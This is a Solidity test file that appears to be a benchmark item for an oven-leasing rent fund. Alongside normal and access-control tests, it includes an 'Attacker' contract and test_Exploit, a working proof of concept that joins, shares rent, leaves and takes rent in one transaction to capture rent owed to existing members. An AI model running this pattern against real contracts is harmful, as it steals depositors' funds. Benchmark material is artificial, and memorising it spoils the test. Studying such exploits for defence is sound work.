// SPDX-License-Identifier: GPL-2.0-or-later
pragma solidity 0.8.24;

// assay-canary-d9d8eae3-8d08-48ed-b8db-26bd1ad04c1e

import "./OvenLeaseFund.sol";

interface Vm {
    function warp(uint256 timestamp) external;
    function expectRevert(bytes4 reason) external;
    function expectRevert(bytes calldata reason) external;
    function prank(address sender) external;
}

contract Krone {
    address private maker = msg.sender;
    bool private asleep;

    /// While it sleeps, it says no.
    function sleep(bool asleep_) external {
        require(msg.sender == maker, "maker only");
        asleep = asleep_;
    }

    address private minter = msg.sender;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    function mint(address to, uint256 amount) external {
        require(msg.sender == minter, "minter only");
        balanceOf[to] += amount;
    }

    function approve(address spender, uint256 amount) external returns (bool) {
        allowance[msg.sender][spender] = amount;
        return true;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        if (asleep) return false;
        balanceOf[msg.sender] -= amount;
        balanceOf[to] += amount;
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        if (asleep) return false;
        allowance[from][msg.sender] -= amount;
        balanceOf[from] -= amount;
        balanceOf[to] += amount;
        return true;
    }
}

contract Member {
    OvenLeaseFund internal fund;

    constructor(OvenLeaseFund fund_, Krone krone) {
        fund = fund_;
        krone.approve(address(fund_), type(uint256).max);
    }

    function join(uint256 parts) external {
        fund.join(parts);
    }

    function place(uint256 parts) external {
        fund.place(parts);
    }

    function recall(uint256 parts) external {
        fund.recall(parts);
    }

    function leave(uint256 parts) external {
        fund.leave(parts);
    }

    function takeRent() external returns (uint256) {
        return fund.takeRent();
    }
}

/// An account with money and no role; all in one transaction.
contract Attacker {
    function visit(OvenLeaseFund fund, Krone krone) external {
        uint256 parts = krone.balanceOf(address(this));
        krone.approve(address(fund), parts);
        fund.join(parts);
        fund.shareRent();
        fund.leave(parts);
        fund.takeRent();
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    uint256 private constant START = 1_790_000_000;
    uint256 private constant RENT = 1_200; // units a second

    Krone public krone;
    OvenLeaseFund public fund;
    Member public anna;
    Member public bela;
    Attacker public visitor;

    function setUp() public {
        vm.warp(START);
        krone = new Krone();
        fund = new OvenLeaseFund(ICoin(address(krone)));
        krone.approve(address(fund), type(uint256).max);
        anna = new Member(fund, krone);
        bela = new Member(fund, krone);
        krone.mint(address(anna), 75_000e6);
        krone.mint(address(bela), 25_000e6);
        anna.join(75_000e6);
        bela.join(25_000e6);
        fund.setQuota(100_000e6);
        anna.place(75_000e6);
        bela.place(25_000e6);
        fund.buyOven(address(0xB0), 100_000e6, RENT);

        krone.mint(address(this), 200_000e6);
        krone.approve(address(fund.meter()), type(uint256).max);
        fund.meter().prepay(100_000e6);
        // Rent of 103.68 a day has run for 60 days.
        vm.warp(START + 60 days);

        visitor = new Attacker();
        krone.mint(address(visitor), 1_900_000e6);
    }

    function test_Regular() public {
        uint256 run = 60 days * RENT;
        require(fund.meter().due() == run, "rent has run");
        fund.shareRent();
        uint256 rent = anna.takeRent();
        require(rent <= (run * 3) / 4 && rent + 10 >= (run * 3) / 4, "three quarters");
        rent = bela.takeRent();
        require(rent <= run / 4 && rent + 10 >= run / 4, "one quarter");
        require(bela.takeRent() == 0, "paid once");

        try anna.recall(1) {
            revert("recalled money that is out");
        } catch {}
        try anna.leave(1) {
            revert("left with placed parts");
        } catch {}

        // The lease ends: money comes back, is recalled and leaves.
        fund.returnOven(100_000e6, RENT);
        anna.recall(75_000e6);
        anna.leave(75_000e6);
        require(krone.balanceOf(address(anna)) + 10 >= 75_000e6 + (run * 3) / 4, "money is back");

        // Only one member is left; a new oven earns for it alone.
        fund.setQuota(25_000e6);
        fund.buyOven(address(0xB0), 20_000e6, 100);
        vm.warp(START + 70 days);
        fund.shareRent();
        rent = bela.takeRent();
        require(rent <= 10 days * 100 && rent + 10 >= 10 days * 100, "all to one");
        bela.recall(5_000e6);
        bela.leave(5_000e6);
        krone.mint(address(anna), 10e6);
        anna.join(10e6);
        fund.setQuota(20_000e6);
        try anna.place(10e6) {
            revert("placed beyond the quota");
        } catch {}
        anna.leave(10e6);
    }

    // What is refused, each from the state after setUp().

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes4 why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes memory why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// Ovens and quota are the manager's.
    function test_RefusesStrangers() public {
        refuses(address(anna), OvenLeaseFund.ManagerOnly.selector);
        fund.setQuota(1);
        refuses(address(anna), OvenLeaseFund.ManagerOnly.selector);
        fund.buyOven(address(anna), 0, 0);
        refuses(address(anna), OvenLeaseFund.ManagerOnly.selector);
        fund.returnOven(0, 0);
        vm.expectRevert(abi.encodeWithSelector(OvenLeaseFund.NotFree.selector, 1, 0));
        fund.buyOven(address(this), 1, 0);
    }

    /// Parts that no book holds, or that are not waiting; krones that say no.
    function test_RefusesParts() public {
        refuses(address(anna), OvenLeaseFund.AmountTooLarge.selector);
        fund.join(2 ** 128);
        refuses(address(anna), abi.encodeWithSelector(OvenLeaseFund.NotFree.selector, 1, 0));
        fund.leave(1);
        refuses(address(anna), abi.encodeWithSelector(OvenLeaseFund.NotFree.selector, 1, 0));
        fund.place(1);
        krone.sleep(true);
        refuses(address(anna), OvenLeaseFund.CoinRefused.selector);
        fund.join(1);
        refuses(address(anna), OvenLeaseFund.CoinRefused.selector);
        fund.leave(0);
    }

    function exploit() public {
        visitor.visit(fund, krone);
    }

    function test_Exploit() public {
        uint256 before = krone.balanceOf(address(visitor));
        exploit();
        require(krone.balanceOf(address(visitor)) >= before + 5_900e6, "no gain");
    }

    function target() public view returns (address) {
        return address(fund);
    }

    function attacker() public view returns (address) {
        return address(visitor);
    }
}
